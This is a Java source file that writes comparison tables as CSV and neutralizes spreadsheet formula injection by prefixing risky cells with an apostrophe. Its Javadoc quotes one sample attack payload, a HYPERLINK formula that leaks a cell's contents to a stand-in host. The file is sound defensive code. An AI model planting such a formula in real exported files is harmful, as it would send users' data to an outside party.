package org.roleatlas.compare;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;
import java.util.Objects;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;

/**
 * Writes comparison tables as RFC 4180 CSV (Apache Commons CSV), which spreadsheet tools open without an import
 * dialog: fields are quoted when they hold a comma, quote or line break, or begin or end with white space (many
 * readers trim unquoted fields); every record ends with CRLF.
 *
 * <p>Cells are data, never formulas: a cell that begins with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a
 * carriage return would be run as a formula by a spreadsheet (for example
 * {@code =HYPERLINK("http://evil.example/?leak="&A1,"Click me")}), so it is written with a leading {@code '}, as
 * OWASP advises for CSV injection. The spreadsheet then shows the text as it was typed.
 */
public final class CsvWriter {

    private static final CSVFormat FORMAT = CSVFormat.RFC4180.builder().setRecordSeparator("\r\n").get();

    private CsvWriter() {
    }

    /** Every record, including the last, is terminated by CRLF. */
    public static String write(List<List<String>> records) {
        Objects.requireNonNull(records, "records");
        StringBuilder out = new StringBuilder();
        try (CSVPrinter printer = new CSVPrinter(out, FORMAT)) {
            for (List<String> record : records) {
                Objects.requireNonNull(record, "record");
                // A lone empty field is written "" (a bare empty line is skipped by many readers).
                printer.printRecord(record.stream().map(field -> inert(Objects.requireNonNull(field, "field"))));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e); // a StringBuilder does no I/O
        }
        return out.toString();
    }

    /** The cell as a spreadsheet will show it, not run it: formula starters get a leading apostrophe. */
    static String inert(String cell) {
        if (cell.isEmpty()) {
            return cell;
        }
        return switch (cell.charAt(0)) {
            case '=', '+', '-', '@', '\t', '\r' -> "'" + cell;
            default -> cell;
        };
    }
}
